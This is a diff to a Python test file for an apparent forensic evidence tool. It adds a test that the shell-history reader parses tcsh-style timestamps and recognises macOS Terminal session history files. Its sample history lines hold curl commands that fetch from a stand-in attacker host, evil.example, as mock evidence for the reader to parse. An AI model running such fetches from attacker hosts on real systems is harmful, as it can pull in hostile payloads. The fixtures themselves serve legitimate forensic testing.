@@ -6,8 +6,9 @@ import pytest
 from tests.evidence.artefact_kit import bears_damage, read_member, read_place, shows_plant
 from tests.evidence_kit import read_bytes
 
+from nachsorge.evidence.identify import reader_for
 from nachsorge.evidence.readers.shell_history import ShellHistory
-from nachsorge.model.times import parse_instant
+from nachsorge.model.times import SECOND, parse_instant
 from nachsorge.model.words import Kind, Status
 
 BASH = b"#1680076800\ncurl http://evil.example/a\n#1680076801\nfor x in 1\ndo echo\n"
@@ -50,6 +51,20 @@ def test_a_history_without_times_is_known_by_its_name_alone():
     records, reading = read_member(ShellHistory(), PLAIN, ".bash_history")
     assert commands(records) == [("ls", None), ("curl http://evil.example/a", None), ("# a comment", None)]
     assert "3 commands carry no time" in reading.note and [r.locator for r in records] == ["line 1", "line 3", "line 4"]
+
+
+def test_tcsh_and_the_sessions_of_macos_terminal():
+    body = b"#+1680000000\ncurl http://evil.example/\n#+1680000060\nls\n"
+    assert ShellHistory().accepts(body, "x") == 88
+    one, two = read_bytes(ShellHistory(), body)[0]
+    assert (one.event["command"], one.time) == ("curl http://evil.example/", 1680000000 * SECOND)
+    assert two.time == 1680000060 * SECOND
+    for folder in (".zsh_sessions", ".bash_sessions"):
+        for end in ("history", "historynew"):
+            place = f"Users/kim/{folder}/8C0E1C7A-0000-4000-8000-000000000000.{end}"
+            found = reader_for(b"curl http://evil.example/\nls\n", place)
+            assert found is not None and found.name == "shell_history"
+    assert ShellHistory().accepts(b"export x=1\n", "Users/kim/.zsh_sessions/8C0E.session") == 0
 
 
 @pytest.mark.parametrize(
